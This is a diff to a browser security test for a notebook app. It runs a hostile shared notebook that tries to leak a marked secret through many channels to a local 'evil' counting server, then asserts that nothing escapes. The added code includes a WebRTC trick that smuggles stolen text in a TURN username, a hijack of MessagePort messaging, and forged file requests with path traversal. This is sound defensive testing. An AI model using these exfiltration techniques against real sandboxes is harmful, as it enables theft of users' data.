@@ -5,8 +5,9 @@
  * file (loaded through the data menu) with a marked respondent name. The notebook then tries every
  * way out we know of — fetch, XHR, sendBeacon, WebSocket, EventSource, img/script/link/style/font/
  * iframe/object/prefetch loads, a worker, dynamic import, its own and the top window's `location`,
- * `window.open`, a form, an `<a target=_blank>` and an `<a download>` click, `<meta http-equiv=refresh>`
- * — and forges messages to the page. Every "other origin" is a local counting server; the test
+ * `window.open`, a form, an `<a target=_blank>` and an `<a download>` click, `<meta http-equiv=refresh>`,
+ * WebRTC ICE to a STUN/TURN server — and forges messages to the page, over the window and over the
+ * frame's own channel. Every "other origin" is a local counting server (UDP for ICE); the test
  * asserts that no request reaches it and that no secret appears in anything the notebook could
  * read (its own output, the messages it received) or send.
  *
@@ -14,6 +15,7 @@
  * and every other attempt with it). The per-channel counts are written to
  * test-output/hostile-notebook.json for the record. Set TVERRSNITT_DIST to run against another build.
  */
+import { createSocket, type Socket } from "node:dgram";
 import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { Browser, BrowserContext, Page } from "playwright-core";
@@ -30,6 +32,9 @@ const userFile = `${workDir}/respondents-with-secret.csv`;
 
 let server: RunningServer;
 let evil: Awaited<ReturnType<typeof countingServer>>;
+/** The STUN/TURN "server": counts the UDP packets ICE sends it. */
+let stun: Socket;
+const stunPackets: string[] = [];
 let browser: Browser;
 let context: BrowserContext;
 const popups: string[] = [];
@@ -74,7 +79,12 @@ const READ_CELL = `const stolen = await (async () => {
   return found.join("\\n");
 })()`;
 
-/** Collects every message the frame receives (binary payloads decoded), to look for secrets in them. */
+/**
+ * Collects every message the frame receives (binary payloads decoded), to look for secrets in them.
+ * It also takes over the frame's channel to the page: the first time the frame's own code posts on a
+ * MessagePort, the port is kept (`window.__port`) and listened to, so forged messages can travel the
+ * real channel too.
+ */
 const LISTEN_CELL = `const heard = (() => {
   const log = [];
   const text = (value) => {
@@ -83,6 +93,14 @@ const LISTEN_CELL = `const heard = (() => {
     try { return JSON.stringify(value, (k, v) => (v instanceof ArrayBuffer || ArrayBuffer.isView(v) ? text(v) : v)) ?? String(value); } catch { return String(value); }
   };
   window.addEventListener("message", (event) => log.push(text(event.data)));
+  const post = MessagePort.prototype.postMessage;
+  MessagePort.prototype.postMessage = function (...args) {
+    if (!window.__port) {
+      window.__port = this;
+      this.addEventListener("message", (event) => log.push(text(event.data)));
+    }
+    return post.apply(this, args);
+  };
   return log;
 })()`;
 
@@ -101,6 +119,20 @@ const CHANNELS: Channel[] = [
   { name: "object", source: `(() => { const o = document.createElement("object"); o.data = EVIL + "object?d=" + ${PAYLOAD}; document.body.append(o); return "added"; })()` },
   { name: "prefetch", source: `(() => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = EVIL + "prefetch?d=" + ${PAYLOAD}; document.head.append(l); return "added"; })()` },
   { name: "worker", source: `(() => { try { new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(EVIL + "worker?d=x") + ")"], { type: "text/javascript" }))); return "started"; } catch (e) { return "threw " + e.name; } })()` },
+  {
+    name: "webrtc",
+    source: `await (async () => {
+  const Pc = window.RTCPeerConnection ?? window.webkitRTCPeerConnection ?? (() => { try { const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow.RTCPeerConnection; } catch (e) { return undefined; } })();
+  if (!Pc) return "no RTCPeerConnection";
+  try {
+    const pc = new Pc({ iceServers: [{ urls: "stun:127.0.0.1:" + STUN }, { urls: "turn:127.0.0.1:" + STUN + "?transport=udp", username: stolen.slice(0, 200), credential: "x" }] });
+    pc.createDataChannel("leak");
+    await pc.setLocalDescription(await pc.createOffer());
+    await new Promise((r) => setTimeout(r, 1500));
+    return "offered";
+  } catch (e) { return "threw " + e.name; }
+})()`,
+  },
   { name: "import", source: `await import(EVIL + "import?d=" + ${PAYLOAD}).then(() => "loaded", (e) => "failed: " + e.message)` },
   {
     name: "forged-messages",
@@ -123,11 +155,15 @@ const CHANNELS: Channel[] = [
     null,
     "x".repeat(5000000),
   ];
+  // Through the window (the page reads only "ready" there) and through the frame's own channel.
   for (const message of forged) parent.postMessage(message, "*");
-  try { parent.postMessage({ type: "file", id: 9010, path: "data/demo/kommuner-1999.csv" }, "*", [new MessageChannel().port1]); } catch (e) { void e; }
+  for (let i = 0; i < 50 && !window.__port; i++) await new Promise((r) => setTimeout(r, 20));
+  const port = window.__port;
+  for (const message of forged) port?.postMessage(message);
+  try { port?.postMessage({ type: "file", id: 9010, path: "data/demo/kommuner-1999.csv" }, [new MessageChannel().port1]); } catch (e) { void e; }
   try { top.postMessage({ type: "file", id: 9011, path: "../index.html" }, "*"); } catch (e) { void e; }
   await new Promise((r) => setTimeout(r, 1000));
-  return "sent " + forged.length;
+  return "sent " + forged.length + (port ? " twice" : " once (no channel found)");
 })()`,
   },
   { name: "location", navigates: true, source: `(() => { location.href = EVIL + "location?d=" + ${PAYLOAD}; return "navigating"; })()` },
@@ -147,6 +183,7 @@ function pathsOf(channel: Channel): string[] {
 function hostileDoc(channels: Channel[]): { title: string; cells: CellDoc[] } {
   const cells: CellDoc[] = [
     { id: "evil", kind: "js", source: `const EVIL = ${q(evil.url)}` },
+    { id: "stun", kind: "js", source: `const STUN = ${stun.address().port}` },
     { id: "listen", kind: "js", source: LISTEN_CELL },
     { id: "read", kind: "js", source: READ_CELL },
     { id: "shown", kind: "js", source: "stolen" },
@@ -154,14 +191,19 @@ function hostileDoc(channels: Channel[]): { title: string; cells: CellDoc[] } {
   channels.forEach((channel, i) => cells.push({ id: `c${i}`, kind: "js", source: `const r${i} = ${channel.source}` }));
   cells.push({ id: "all", kind: "js", source: `const allDone = [${channels.map((c, i) => `${q(c.name)} + ": " + r${i}`).join(", ")}].join("\\n") + "\\nALL DONE"` });
   cells.push({ id: "done", kind: "js", source: "allDone" });
-  cells.push({ id: "heard", kind: "js", source: "allDone ? heard.join('\\n') + '\\nHEARD ' + heard.length : ''" });
+  // A DOM node, not a string: strings are shown cut to 4,000 characters, and all of it must be checked.
+  cells.push({ id: "heard", kind: "js", source: "(() => { const pre = document.createElement('pre'); pre.textContent = allDone ? heard.join('\\n') + '\\nHEARD ' + heard.length : ''; return pre; })()" });
   return { title: "Quarterly figures", cells };
 }
 
-/** What one hostile run left behind: the notebook's text and what it heard. */
+/** What one hostile run left behind: the notebook's document, its attempts' results and what it heard. */
 interface RunOutcome {
   text: string;
   finished: boolean;
+  /** The "done" cell: one line per attempt, as the notebook saw it. */
+  results: string;
+  /** The "heard" cell: every message the frame received. */
+  heard: string;
 }
 
 /** Load the user's file (with a marked name) through the data menu, as a user would. */
@@ -190,8 +232,9 @@ async function runHostile(channels: Channel[], wait: number): Promise<RunOutcome
       : false;
     await page.waitForTimeout(1500);
     // What the notebook could see: its own document (outputs, the messages it heard).
+    const read = (selector: string) => (frame ? frame.evaluate((s) => document.querySelector(s)?.textContent ?? "", selector).catch(() => "") : Promise.resolve(""));
     const text = frame ? await frame.evaluate(() => document.documentElement.outerHTML).catch(() => "") : "";
-    return { text, finished };
+    return { text, finished, results: await read("#cell-done .nb-output"), heard: await read("#cell-heard .nb-output") };
   } finally {
     await page.close().catch(() => undefined);
   }
@@ -214,6 +257,9 @@ beforeAll(async () => {
   writeFileSync(userFile, marked.join("\n") + "\n");
   server = await serveDist(process.env.TVERRSNITT_DIST);
   evil = await countingServer();
+  stun = createSocket("udp4");
+  stun.on("message", (packet) => stunPackets.push(packet.toString("latin1")));
+  await new Promise<void>((resolve) => stun.bind(0, "127.0.0.1", () => resolve()));
   browser = await launchChromium({ popupBlocker: true });
   context = await browser.newContext({ viewport: { width: 1280, height: 860 } });
   // Seed the secrets the way the app stores them: a local notebook, an unload journal, a cookie.
@@ -247,17 +293,26 @@ beforeAll(async () => {
   for (const channel of CHANNELS.filter((c) => c.navigates)) outcomes.push(await runHostile([channel], 4_000));
   const requests = evil.requests();
   for (const channel of CHANNELS) {
+    if (channel.name === "webrtc") {
+      table.push({ channel: "webrtc (UDP packets)", requests: stunPackets.length, secretSent: stunPackets.some((p) => p.includes(MARK)) });
+      continue;
+    }
     const paths = pathsOf(channel);
     const mine = requests.filter((r) => paths.some((p) => r.url === p || r.url.startsWith(`${p}?`)));
     table.push({ channel: channel.name, requests: mine.length, secretSent: mine.some((r) => `${decodeURIComponent(r.url)} ${r.body}`.includes(MARK)) });
   }
-  writeFileSync(`${workDir}/../hostile-notebook.json`, JSON.stringify({ dist: process.env.TVERRSNITT_DIST ?? "dist", table, popups, allRequests: requests.map((r: ReceivedRequest) => `${r.method} ${r.url.slice(0, 80)}`) }, null, 2));
+  writeFileSync(`${workDir}/../hostile-notebook.json`, JSON.stringify({
+    dist: process.env.TVERRSNITT_DIST ?? "dist", table, popups,
+    allRequests: requests.map((r: ReceivedRequest) => `${r.method} ${r.url.slice(0, 80)}`),
+    results: outcomes[0]?.results, heard: outcomes[0]?.heard.slice(0, 4000),
+  }, null, 2));
 }, 240_000);
 
 afterAll(async () => {
   await browser?.close();
   await server?.close();
   await evil?.close();
+  stun?.close();
 });
 
 describe("a hostile shared notebook after consent", () => {
@@ -268,12 +323,21 @@ describe("a hostile shared notebook after consent", () => {
   it("reaches no other origin through any channel (popup blocker on)", () => {
     expect(table.filter((row) => row.requests > 0)).toEqual([]);
     expect(evil.requests()).toEqual([]);
+    expect(stunPackets).toEqual([]);
     expect(popups).toEqual([]);
   });
 
   it("reads no local data: no secret in its output, in the messages it received, or in anything sent", () => {
     for (const outcome of outcomes) expect(outcome.text.includes(MARK)).toBe(false);
     expect(evil.requests().some((r) => `${decodeURIComponent(r.url)} ${r.body}`.includes(MARK))).toBe(false);
+  });
+
+  it("gets files only from under data/: every other path it asks the page for is refused", () => {
+    const heard = outcomes[0]?.heard ?? "";
+    expect(outcomes[0]?.results).toContain("forged-messages: sent 16 twice");
+    for (const id of [9001, 9002, 9003, 9004, 9005, 9006, 9007]) expect(heard).toMatch(new RegExp(`"type":"file","id":${id},"error":"[^"]*was not read`));
+    // The one legitimate path was answered, with the bundled file's bytes.
+    expect(heard).toMatch(/"type":"file","id":9010,"bytes":"knr,kommune,fylke/);
   });
 
   it("was told no for every storage and page read", () => {
